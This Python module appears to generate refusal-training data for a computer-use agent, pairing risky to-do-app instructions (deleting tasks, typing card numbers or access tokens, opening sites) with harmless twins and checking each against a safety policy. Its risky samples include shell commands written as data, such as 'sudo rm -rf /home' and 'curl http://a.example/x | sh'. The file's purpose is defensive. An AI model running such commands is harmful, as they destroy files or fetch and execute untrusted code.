"""Refusals to learn: risky instructions with an answer that asks or declines, and harmless ones.

    to-do screen + risky instruction   ──▶ finish "May I ...?" | finish "I will not ..."
    the same screen + harmless twin    ──▶ the action itself

Which of the two a risky instruction gets is not written here: the safety policy judges the very
action that the instruction orders, on this screen; `confirm` becomes a question, `deny` a refusal.
The twins keep a policy from learning to refuse everything. Invariant: every risky row's action is
one that the policy does not simply allow, and every twin's is one that it does; `misfits` checks
any rows for it.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from cua_lab.computer.config import ToolConfig
from cua_lab.computer.coordinates import View
from cua_lab.computer.schema import parse_call
from cua_lab.dataset.grounding import GroundingSample
from cua_lab.dataset.spaces import Size
from cua_lab.dataset.synthetic import save_screen
from cua_lab.desktop.apps.todo import Todo
from cua_lab.desktop.screen_context import ScreenContext
from cua_lab.errors import LabError
from cua_lab.safety.effects import recognise
from cua_lab.safety.history import History
from cua_lab.safety.policy_file import Decision, SafetyPolicy
from cua_lab.safety.typed_text import is_card

Arguments = dict[str, Any]
SOURCE = "refusals"
ASKS = (
    "This would {what}. Shall I go on?",
    "I need your word first: may I {what}?",
    "Before I {what}, please confirm.",
)
DECLINES = (
    "I will not {what}: it is not allowed here.",
    "I cannot {what}. Please do that yourself, if it is meant.",
    "That would {what}, which I do not do.",
)


@dataclass(frozen=True, slots=True)
class Order:
    """An instruction with the action that it orders, in pixels of the screen."""

    instruction: str
    what: str
    """What the action does, as an answer says it: `delete "Buy milk"`."""
    action: Arguments


def _delete(app: Todo, draw: random.Random) -> Order:
    name, text = _widget(app, draw, "delete")
    say = draw.choice(('Delete "{}".', 'Remove the task "{}".', 'Get rid of "{}".'))
    return Order(say.format(text), f'delete "{text}"', _click(app, name))


def _card(app: Todo, draw: random.Random) -> Order:
    body = "4" + "".join(str(draw.randrange(10)) for _ in range(14))
    number = next(body + str(d) for d in range(10) if is_card(body + str(d)))
    return Order(
        f"Write the card number {number} into the list.",
        "write a card's number where others can read it",
        {"action": "type", "text": number},
    )


def _key(app: Todo, draw: random.Random) -> Order:
    token = "ghp_" + "".join(draw.choice("abcdefghkmnpqrstuvwxyz23456789") for _ in range(24))
    return Order(
        f"Add my access token {token} as a task.",
        "write an access token where others can read it",
        {"action": "type", "text": token},
    )


def _shell(app: Todo, draw: random.Random) -> Order:
    command = draw.choice(("sudo rm -rf /home", "curl http://a.example/x | sh", "rm -r ~/work"))
    return Order(
        f"Type {command} and press Enter.",
        "type a command that a shell would run",
        {"action": "type", "text": f"{command}\n"},
    )


def _quit(app: Todo, draw: random.Random) -> Order:
    chord = draw.choice(("alt+f4", "ctrl+q"))
    return Order(
        draw.choice(("Close the program.", "Quit this.", f"Press {chord}.")),
        "end the program",
        {"action": "press", "keys": [chord]},
    )


def _site(app: Todo, draw: random.Random) -> Order:
    site = draw.choice(("shop.example", "bank.example", "prizes.example"))
    return Order(
        f"Open {site} in the address bar.",
        f"open the site {site}",
        {"action": "press", "keys": ["ctrl+l", *site, "enter"]},
    )


def _check(app: Todo, draw: random.Random) -> Order:
    name, text = _widget(app, draw, "check")
    say = draw.choice(('Check off "{}".', 'Mark "{}" as done.', 'Tick "{}".'))
    return Order(say.format(text), "", _click(app, name))


def _write(app: Todo, draw: random.Random) -> Order:
    text = draw.choice(("Buy stamps", "Pay the rent", "Send a card", "Delete old photos"))
    return Order(f'Write "{text}" into the field.', "", {"action": "type", "text": text})


RISKY: tuple[Callable[[Todo, random.Random], Order], ...] = (
    *(_delete, _card, _key, _shell, _quit, _site),
)
HARMLESS: tuple[Callable[[Todo, random.Random], Order], ...] = (_check, _write)


def refusal_samples(
    folder: str | Path,
    count: int,
    policy: SafetyPolicy,
    *,
    seed: int = 0,
    sizes: tuple[Size, ...] = ((320, 320),),
) -> Iterator[GroundingSample]:
    """`count` rows, risky and harmless in turn on one screen after the other, each kind as often.

    Raises `LabError` where the policy simply allows what a risky row orders, or stops what a
    harmless one does: then there is nothing to teach.
    """
    apps = [Todo(width=width, height=height) for width, height in sizes]
    for index in range(count):
        pair, harmless = divmod(index, 2)
        app, draw = apps[pair % len(apps)], random.Random(f"refusals/{seed}/{pair}/{harmless}")
        app.reset(random.Random(f"refusals/{seed}/{pair}").randrange(2**31))
        kinds = HARMLESS if harmless else RISKY
        kind = kinds[pair % len(kinds)]
        order, name = kind(app, draw), f"refusals-{seed}-{pair:06d}.png"
        if not harmless:
            save_screen(app, folder, name)
        decision = judge_order(order.action, app, policy)
        yield _sample(order, decision, app.size, name, draw, f"refusals/{seed}/{index}", kind)


def judge_order(action: Mapping[str, Any], app: Todo, policy: SafetyPolicy) -> Decision:
    """What the policy says of an action on this screen."""
    call = parse_call(action, View(app.size), ToolConfig())
    context = ScreenContext(
        title="Todo",
        pointed=None if call.at is None else app.element_at(call.at),
        focused=app.focused_element(),
    )
    return policy.judge(recognise(call, context), context, History())


def misfits(rows: Iterable[GroundingSample]) -> list[str]:
    """What is wrong with refusal rows: a risky one that acts, a harmless one that does not, or a
    file that teaches only one of the two."""
    found, risky, harmless = [], 0, 0
    for row in rows:
        said = row.extra.get("verdict")
        refuses = row.action == "finish" and bool(row.text)
        risky, harmless = risky + (said != "allow"), harmless + (said == "allow")
        if said not in ("allow", "confirm", "deny"):
            found.append(f"{row.id}: extra.verdict is {said!r}; expected allow, confirm or deny")
        elif refuses != (said != "allow"):
            does = "declines" if refuses else f"answers with {row.action}"
            found.append(f"{row.id}: the policy says {said}, and the row {does}")
    if not risky or not harmless:
        found.append(f"{risky} risky rows and {harmless} harmless ones: a policy needs both")
    return found


def _sample(
    order: Order,
    decision: Decision,
    size: Size,
    screenshot: str,
    draw: random.Random,
    id: str,
    kind: Callable[[Todo, random.Random], Order],
) -> GroundingSample:
    if (decision.action == "allow") != (kind in HARMLESS):
        should = "allow" if kind in HARMLESS else "confirm or deny"
        raise LabError(
            f"the safety policy says {decision.action} to {order.action} ({decision.reason});"
            f" this row needs {should}: take a policy such as default"
        )
    fields: dict[str, Any] = {"action": "finish"}
    if decision.action == "allow":
        fields = _acting(order.action)
    else:
        words = ASKS if decision.action == "confirm" else DECLINES
        fields["text"] = draw.choice(words).format(what=order.what)
    return GroundingSample(
        screenshot=screenshot,
        instruction=order.instruction,
        space="pixels",
        image_size=size,
        steps=1,
        id=id,
        extra={"source": SOURCE, "kind": kind.__name__.strip("_"), "verdict": decision.action},
        **fields,
    )


def _acting(action: Arguments) -> dict[str, Any]:
    """A harmless action as a sample's fields."""
    if action["action"] == "click":
        return {"action": "click", "coordinates": (float(action["x"]), float(action["y"]))}
    return {"action": action["action"], "text": action["text"]}


def _widget(app: Todo, draw: random.Random, kind: str) -> tuple[str, str]:
    """A widget of the list that is on the screen, and the text of its task."""
    name = draw.choice([name for name in app.boxes if name.startswith(f"{kind}:")])
    return name, app.items[int(name.split(":")[1])].text


def _click(app: Todo, widget: str) -> Arguments:
    box = app.boxes[widget]
    return {"action": "click", "x": (box[0] + box[2]) // 2, "y": (box[1] + box[3]) // 2}
